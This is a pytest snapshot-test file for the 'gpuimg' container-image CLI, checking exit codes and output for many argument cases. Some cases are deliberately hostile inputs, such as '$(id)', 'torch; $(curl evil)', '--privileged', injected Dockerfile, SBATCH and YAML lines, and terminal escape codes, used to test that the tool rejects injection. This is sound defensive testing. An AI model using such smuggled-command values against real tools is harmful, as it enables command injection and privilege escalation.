"""The installed command as users see it: exit code, stdout and stderr, whole. Refresh with ``pytest --update-golden``.

Nothing here has an engine: what needs none must work without.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Final

import pytest

import gpuimg
from tests.golden_file import Golden

GPUIMG: Final = Path(sys.executable).with_name("gpuimg")
ROOT: Final = Path(__file__).parents[2]
SNAPSHOTS: Final = Path(__file__).parent / "snapshots"
NO_ENGINE: Final = "unix:///nonexistent/docker.sock"
NOTHING_OF_HERE: Final = "--gpus none --shm-size 8g --user 1000:0 --no-mount --no-caches"
"""Options of `gpuimg run` that leave nothing to what this machine is."""

CASES: Final[dict[str, str | list[str]]] = {
    "help": "--help",
    "no-command": "",
    "matrix-no-command": "matrix",
    "build-help": "build --help",
    "render-help": "render --help",
    "verify-help": "verify --help",
    "doctor-help": "doctor --help",
    "doctor-no-engine": "doctor --only engine",
    "doctor-no-such-check": "doctor --only tolkit",
    "doctor-no-such-stack": "doctor 9.9-cu128",
    "matrix-help": "matrix --help",
    "version": "--version",
    "matrix-list": "matrix list",
    "matrix-list-help": "matrix list --help",
    "matrix-list-filters": 'matrix list --torch ">=2.5,<2.7" --cuda 12 --python 3.12 --platform linux/amd64',
    "matrix-list-compatible": "matrix list --torch 2.6 --cuda 12.1",
    "matrix-list-host": "matrix list --torch 2.6 --driver 535.104.05 --gpu H100",
    "matrix-list-nothing-runs": 'matrix list --torch ">=2.5,<2.7" --driver 535.104 --gpu "RTX 5090"',
    "matrix-list-no-stack": 'matrix list --torch "<2" --cuda 12',
    "matrix-list-unknown-gpu": 'matrix list --gpu "RTX 5095"',
    "matrix-list-several-gpus": 'matrix list --gpu "RTX 6000"',
    "matrix-list-not-a-version": "matrix list --torch latest",
    "matrix-show": "matrix show 2.6-cu124",
    "matrix-show-json": "matrix show 2.15 --json",
    "matrix-validate": "matrix validate",
    "why-compatible": "why 2.6-cu121",
    "why-newest": "why 2.6",
    "why-impossible": "why 2.6-cu128",
    "why-unknown-torch": "why 9.9-cu128",
    "render": "render 2.6-cu124",
    "render-substitution": "render 2.6-cu121-devel",
    "unknown-command": "bild 2.6",
    "unknown-option": "build 2.6 --pyton 3.11",
    "unknown-flavor": "render 2.6-cu124 --flavor devl",
    "unknown-platform": "render 2.6-cu124 --platform windows/amd64",
    "no-wheel-for-platform": "render 2.6-cu124 --platform linux/arm64",
    "no-wheel-for-python": "render 2.6-cu126 --python 3.8",
    "no-python": "render 2.6-cu124 --python three",
    "not-a-spec": "build pytorch-2.6",
    "nothing-to-build": "build",
    "everything-and-a-file": "build --all --file gpuimg.yaml",
    "everything-and-a-spec": "build --all 2.6-cu124",
    "no-engine": "build 2.6-cu124",
    "no-engine-verify": "verify",
    "verify-host-without-torch": "verify --host --python /bin/true",
    "verify-all-and-an-image": "verify --all gpuimg:2.6.0-cu124",
    "verify-all-on-the-host": "verify --all --host",
    "verify-host-shares-nothing": "verify --host --gpus-per-image 2",
    "verify-no-jobs": "verify --jobs 0",
    "verify-no-number-of-gpus": "verify --gpus-per-image some",
    "verify-quick-and-full": "verify --host --quick --full",
    "verify-saving-of-100": "verify --host --require-saving 100",
    "verify-candidate-is-no-setting": "verify --host --candidate expandable_segments",
    "verify-candidate-is-unknown": "verify --host --candidate expandable_segment:True",
    "verify-baseline-missing": "verify --baseline nonexistent.json",
    "verify-baseline-is-no-report": "verify --baseline pyproject.toml",
    "hostile-tag": ["build", "2.6-cu124", "--tag", "x:1 --privileged\n$(id)"],
    "hostile-base": ["render", "2.6-cu124", "--base", "debian:12\nRUN id"],
    "hostile-extra": ["render", "2.6-cu124", "--extra", "torch; $(curl evil)"],
    "hostile-escape": ["render", "2.6-cu124\x1b[2J\x1b]0;pwned\x07"],
    "extra-against-the-stack": ["render", "2.6-cu124", "--extra", "torch==2.5.1"],
    "credentials-in-index": "render 2.6-cu124 --index-url https://me:secret@pypi.example.com/simple",
    "ca-bundle-missing": "render 2.6-cu124 --ca-bundle /nonexistent/ca.pem",
    "export-help": "export --help",
    "export-github-help": "export --format github --help",
    "export-gitlab-help": "export --format gitlab --help",
    "export-bake-help": "export --format bake --help",
    "export-bake-no-folder": "export 2.6-cu124 --format bake",
    "export-bake-hostile-repository": [
        "export",
        "2.6-cu124",
        "--format",
        "bake",
        "-o",
        "x",
        "--repository",
        "x\ny\x1b[2J",
    ],
    "export-k8s-help": "export --format k8s --help",
    "export-no-format": "export 2.6-cu124",
    "export-k8s-no-command": "export 2.6-cu124 --format k8s",
    "export-k8s-server-no-command": "export 2.6-cu124-serve --format k8s",
    "export-k8s-unknown-kind": ["export", "2.6-cu124", "--format", "k8s", "--kind", "jobsets\x1b[2J"],
    "export-k8s-secret": "export 2.6-cu124 --format k8s --env HF_TOKEN=hf_1 -- python train.py",
    "export-k8s-stray-option": "export 2.6-cu124 --format k8s --storage 10g -- python train.py",
    "export-k8s-hostile-claim": ["export", "debian:12", "--format", "k8s", "--pvc", "a:/x\nkind: Pod", "--", "true"],
    "export-unknown-format": "export 2.6-cu124 --format k9s --smoke",
    "export-unknown-check": "export 2.6-cu124 --format k8s --smoke --only stak",
    "export-no-image": "export pytorch --format k8s --smoke",
    "export-one-node-alone": "export pytorch/pytorch:latest --format k8s --smoke --multi-node",
    "export-apptainer-help": "export --format apptainer --help",
    "export-slurm-help": "export --format slurm --help",
    "export-slurm-no-command": "export 2.6-cu124 --format slurm",
    "export-slurm-hostile-name": ["export", "debian:12", "--format", "slurm", "--name", "x\n#SBATCH --uid=0\x1b[2J"],
    "export-compose-help": "export --format compose --help",
    "export-compose-auto": "export 2.6-cu124 --format compose --gpus auto",
    "export-compose-secret": "export 2.6-cu124 --format compose -e HF_TOKEN=hf_x",
    "export-compose-hostile-name": ["export", "2.6-cu124", "--format", "compose", "--name", "x:\n  privileged\x1b[2J"],
    "export-compose-port-of-nothing": "export 2.6-cu124 --format compose --port 8888",
    "export-devcontainer": "export 2.6-cu124-jupyter --format devcontainer -e HF_TOKEN",
    "export-devcontainer-help": "export --format devcontainer --help",
    "export-devcontainer-filled-in": "export 2.6-cu124 --format devcontainer -e MOTTO=${localEnv:HOME}",
    "export-hostile-name": ["export", "2.6-cu124", "--format", "k8s", "--smoke", "--name", "x\nkind: Pod\x1b[2J"],
    "export-hostile-image": ["export", "x:1\nkind: Pod", "--format", "k8s", "--smoke"],
    "run-help": "run --help",
    "run-print": f"run 2.6-cu124 --print {NOTHING_OF_HERE} -- python train.py --name 'a b'",
    "run-print-options": f"run registry.example.com/team/train:1 --print {NOTHING_OF_HERE} --detach --keep --name train"
    " --memory 32g --cpus 8 --ipc private -v data:/data:ro -e NCCL_DEBUG=INFO -p 6006:6006 --network training",
    "run-print-substitution": f"run 2.6-cu121-devel --print {NOTHING_OF_HERE}",
    "run-no-engine": "run 2.6-cu124 --gpus none",
    "run-no-image": "run ubuntu --print",
    "run-hostile-image": ["run", "x:1 --privileged\n$(id)", "--print"],
    "run-hostile-command": ["run", "debian:12", "--print", *NOTHING_OF_HERE.split(), "--", "echo", "\x1b[2J$(id)\n'"],
    "run-hostile-name": ["run", "2.6-cu124", "--print", "--name", "--privileged"],
    "run-hostile-mount": ["run", "2.6-cu124", "--print", "-v", "/:/"],
    "run-no-gpus": "run 2.6-cu124 --print --gpus some",
    "run-root-and-user": "run 2.6-cu124 --print --root --user 1000",
    "run-port-of-nothing": f"run 2.6-cu124 --print {NOTHING_OF_HERE} --port 8888",
    "run-missing-folder": "run debian:12 --print --gpus none -v /nonexistent/data:/data",
    "report-help": "report --help",
    "report-schema-help": "report schema --help",
    "report-merge-help": "report merge --help",
    "report-merge": [
        "report",
        "merge",
        *(f"tests/unit/report/logs/{name}.log" for name in ("torch-2.6", "torch-2.13", "killed")),
        "--expect",
        "4",
    ],
    "report-merge-no-log": "report merge tests/unit/report/logs/torch-2.6.log LICENSE",
    "report-merge-other-json": "report merge tests/unit/report/logs/torch-2.6.log matrices/schema/gpus.schema.json",
    "report-merge-no-file": "report merge missing.log",
    "output-into-foreign-folder": "render 2.6-cu124 -o matrices",
}


@pytest.mark.parametrize("name", CASES)
def test_snapshot(name: str, golden: Golden) -> None:
    case = CASES[name]
    arguments = case if isinstance(case, list) else shlex.split(case)
    actual = _run(arguments)
    golden(actual, SNAPSHOTS / f"{name}.txt")


def test_no_snapshot_is_left_over() -> None:
    assert {path.stem for path in SNAPSHOTS.glob("*.txt")} == set(CASES)


@pytest.mark.parametrize("name", CASES)
def test_no_snapshot_shows_a_traceback_or_an_escape(name: str) -> None:
    text = (SNAPSHOTS / f"{name}.txt").read_text(encoding="utf-8")
    assert "Traceback" not in text
    assert "\x1b" not in text
    assert "exit code: 70" not in text


def test_module_and_command_are_the_same() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "gpuimg", "--version"], capture_output=True, text=True, check=True, env=_environment()
    )
    assert done.stdout == f"gpuimg {gpuimg.__version__}\n"


def test_help_imports_nothing_heavy() -> None:
    """`gpuimg --help` answers at once: what only some commands need is imported by them."""
    code = (
        "import sys; from gpuimg.cli.app import run; run(['--version']);"
        "print([name for name in ('docker', 'jinja2', 'yaml', 'jsonschema', 'google.protobuf') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=_environment())
    assert done.stdout.splitlines()[-1] == "[]"


def test_a_reader_that_goes_away_is_no_error() -> None:
    done = subprocess.run(
        f"{shlex.quote(str(GPUIMG))} matrix show 2.6 --json | head -c 1; exit ${{PIPESTATUS[0]}}",
        shell=True,
        executable="/bin/bash",
        capture_output=True,
        text=True,
        check=False,
        env=_environment(),
    )
    assert done.stderr == ""


def _run(arguments: list[str]) -> str:
    done = subprocess.run(
        [GPUIMG, *arguments], capture_output=True, text=True, check=False, env=_environment(), timeout=60, cwd=ROOT
    )
    stdout, stderr = (text.replace(gpuimg.__version__, "VERSION") for text in (done.stdout, done.stderr))
    command = shlex.join(["gpuimg", *arguments]).encode("unicode_escape").decode()
    return f"$ {command}\nexit code: {done.returncode}\n--- stdout\n{stdout}--- stderr\n{stderr}"


def _environment() -> dict[str, str]:
    kept = {name: os.environ[name] for name in ("PATH", "HOME", "LANG", "LC_ALL") if name in os.environ}
    return {**kept, "LANG": "C.UTF-8", "NO_COLOR": "1", "COLUMNS": "100", "TERM": "dumb", "DOCKER_HOST": NO_ENGINE}
